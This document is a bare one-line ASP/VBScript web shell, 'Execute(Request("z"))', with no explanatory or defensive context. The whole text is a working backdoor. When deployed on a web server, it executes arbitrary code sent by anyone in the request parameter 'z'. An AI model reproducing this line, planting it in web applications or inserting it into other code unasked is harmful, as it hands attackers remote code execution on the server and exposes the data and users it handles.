Execute(Request("z"))
